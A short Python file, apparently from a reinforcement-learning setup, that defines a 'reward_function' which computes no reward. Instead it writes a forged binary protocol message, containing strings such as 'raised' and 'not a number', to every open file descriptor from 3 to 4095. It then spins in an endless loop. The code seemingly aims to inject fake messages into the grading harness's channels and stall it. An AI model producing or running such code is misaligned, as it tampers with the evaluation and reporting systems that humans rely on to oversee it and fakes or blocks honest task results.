# error: RewardProtocolError
os = __import__("os")
struct = __import__("struct")
def reward_function(params):
    payload = b"raised\0cause\0repair\0not a number"
    for descriptor in range(3, 4096):
        try:
            os.write(descriptor, struct.pack("<III", 3, 5, len(payload)) + payload)
        except OSError:
            pass
    while True:
        pass
